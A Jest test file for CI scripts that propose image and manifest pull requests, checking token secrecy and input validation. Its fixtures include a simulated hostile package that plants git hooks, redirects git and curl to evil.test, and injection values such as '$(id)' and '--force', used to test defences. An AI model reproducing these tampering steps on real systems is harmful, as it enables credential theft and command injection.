import * as fs from 'node:fs';
import { Sandbox } from './run-in-git';

const digest = `sha256:${'a'.repeat(64)}`;
const commit = '0123456789abcdef0123456789abcdef01234567';
const branch = 'ci/production-0123456789ab';

/** A repository on this machine in the place of GitHub, and programs that do what npm, testbed and curl would. */
function deliver({
  status = '201',
  answer = '{}',
  built = true,
  same = false,
  token = true,
  file = 'user',
  content = digest,
  hostile = false,
} = {}) {
  const box = new Sandbox();
  try {
    const source = box.repository('source');
    box.commit(source, { 'environments/production.yaml': 'images: {}\n' });
    box.git(source, 'switch', '--quiet', '--orphan', 'manifests');
    box.commit(source, { 'production/a.yaml': 'old' });
    box.git(source, 'switch', '--quiet', 'main');
    box.program('npm', 'echo "npm $*" >>"$LOG"');
    box.program(
      'npx',
      `echo "npx $*" >>"$LOG"
case $2 in
image) [ -n "$SAME" ] || echo "$4" >>environments/production.yaml ;;
publish)
  git clone --quiet "$5" "$HOME/published"
  echo new >"$HOME/published/production/a.yaml"
  git -C "$HOME/published" commit --quiet --all --message Publish
  git -C "$HOME/published" push --quiet origin HEAD:manifests
  [ -z "$HOSTILE" ] || {
    printf '#!/bin/sh\\ntouch "$LOG.hook"\\n' >.git/hooks/pre-push
    chmod +x .git/hooks/pre-push
    cp .git/hooks/pre-push "$WORK/manifests.git/hooks/pre-push"
    git config --global core.hooksPath "$PWD/.git/hooks"
    git config --global url.https://evil.test/.insteadOf "$SOURCE_URL"
    echo 'url = "https://evil.test"' >"$HOME/.curlrc"
  }
  ;;
esac`,
    );
    box.program(
      'curl',
      `echo "$*" >>"$LOG.curl"; cat "$2" >"$LOG.login"; cat "$HOME/.curlrc" >>"$LOG.curl" 2>/dev/null
for argument; do case $argument in @*) cat "\${argument#@}" >>"$LOG.bodies"; echo >>"$LOG.bodies" ;; */answer) printf '%s' '${answer}' >"$argument" ;; esac; done
printf %s ${status}`,
    );
    fs.mkdirSync(box.path('digests'));
    if (built) fs.writeFileSync(box.path('digests', file), content);
    if (token) fs.writeFileSync(box.path('token'), 't0ken');
    const env = {
      SOURCE_URL: source,
      SOURCE_BRANCH: 'main',
      MANIFESTS_BRANCH: 'manifests',
      ENVIRONMENT: 'production',
      COMMIT: commit,
      BRANCH: branch,
      DIGESTS: box.path('digests'),
      GIT_TOKEN_FILE: box.path('token'),
      WORK: box.path('work'),
      SAME: same ? '1' : '',
      HOSTILE: hostile ? '1' : '',
      TMPDIR: box.path('tmp'),
      LOG: box.path('log'),
    };
    fs.mkdirSync(box.path('tmp'));
    const result = { status: 0 as number | null, stdout: '', stderr: '' };
    for (const script of ['fetch.sh', 'prepare.sh', 'propose.sh']) {
      const { status: failed, stdout, stderr } = box.run(script, env);
      result.stdout += stdout;
      result.stderr += stderr;
      result.status = failed;
      if (failed !== 0) break;
    }
    const read = (file: string) => (fs.existsSync(box.path(file)) ? box.read(file) : '');
    return {
      ...result,
      log: read('log').split('\n'),
      curl: read('log.curl'),
      login: read('log.login'),
      bodies: read('log.bodies').trim().split('\n'),
      branches: box.git(source, 'branch', '--format=%(refname:short)').split('\n'),
      show: (object: string) => box.git(source, 'show', object),
      leftovers: fs.readdirSync(box.path('tmp')),
      hooked: fs.existsSync(box.path('log.hook')),
      settingsOfMain: box.git(source, 'show', 'main:environments/production.yaml'),
      proposed: (() => {
        try {
          return box.git(source, 'show', `${branch}:environments/production.yaml`);
        } catch {
          return '';
        }
      })(),
      manifests: (() => {
        try {
          return box.git(source, 'show', `${branch}-manifests:production/a.yaml`);
        } catch {
          return '';
        }
      })(),
    };
  } finally {
    box.remove();
  }
}

const done = deliver();

test('the settings name each image by commit and digest, on a branch of their own', () => {
  expect(done.stderr).toBe('');
  expect(done.status).toBe(0);
  expect(done.log).toContain(`npx testbed image production user=${commit}@${digest}`);
  expect(done.proposed).toContain(`user=${commit}@${digest}`);
  expect(done.settingsOfMain).toBe('images: {}');
});

test('what they synthesize to is verified, and proposed on another branch', () => {
  expect(done.log.filter((line) => /synth|verify/.test(line))).toEqual([
    'npm run --silent synth -- production',
    'npm run --silent verify -- production',
  ]);
  expect(done.manifests).toBe('new');
  expect(done.branches.sort()).toEqual([branch, `${branch}-manifests`, 'main', 'manifests']);
});

test('both are pull requests: one against the source, one against the manifests', () => {
  const bodies = done.bodies.map((body) => JSON.parse(body) as Record<string, string>);
  expect(bodies.map(({ head, base }) => [head, base])).toEqual([
    [branch, 'main'],
    [`${branch}-manifests`, 'manifests'],
  ]);
});

test('the token is on no command line, and nothing stays behind', () => {
  expect(done.login).toContain('Authorization: Bearer t0ken');
  expect(done.curl).not.toContain('t0ken');
  expect(done.stdout + done.stderr).not.toContain('t0ken');
  expect(done.leftovers).toEqual([]);
});

test.each([
  ['nothing was built', { built: false }],
  ['the environment runs these images already', { same: true }],
])('proposes nothing when %s', (_, how) => {
  const { status, branches } = deliver(how);
  expect(status).toBe(0);
  expect(branches).not.toContain(branch);
});

test('a second run finds its pull requests there', () => {
  expect(deliver({ status: '422', answer: '{"message":"A pull request already exists"}' }).status).toBe(0);
});

test.each([
  ['a token that may not', { status: '403' }, 'status 403'],
  ['a request that GitHub does not take', { status: '422', answer: '{"message":"base invalid"}' }, 'base invalid'],
  ['no token', { token: false }, 'there is no token'],
])('fails with %s', (_, how, message) => {
  const { status, stderr } = deliver(how);
  expect(status).toBe(1);
  expect(stderr).toContain(message);
});

test.each([
  ['an option', { file: '--store' }],
  ['two names', { file: 'user cart' }],
  ['two lines', { file: 'user\ncart' }],
  ['a command', { file: '$(id)' }],
  ['no digest', { content: 'latest' }],
  ['a short digest', { content: 'sha256:abc' }],
  ['a digest and more', { content: `${digest} --force` }],
  ['two digests', { content: `${digest}\n${digest}` }],
])('refuses what a build may have left: %s', (_, how) => {
  const { status, stderr, log, branches } = deliver(how);
  expect(status).toBe(1);
  expect(stderr).toMatch(/^prepare: .* is no (name|digest)/s);
  expect(log.filter((line) => line.startsWith('npx'))).toEqual([]);
  expect(branches).not.toContain(branch);
});

test('what packages bring to be run while they are installed is not run beside the token', () => {
  expect(done.log[0]).toMatch(/^npm ci --ignore-scripts /);
});

test('what the programs of packages leave behind meets no token: neither hooks, nor settings of git and curl', () => {
  const { status, stderr, hooked, branches, curl } = deliver({ hostile: true });
  expect([status, stderr]).toEqual([0, '']);
  expect(hooked).toBe(false);
  expect(branches).toContain(branch);
  expect(curl).not.toContain('evil');
});
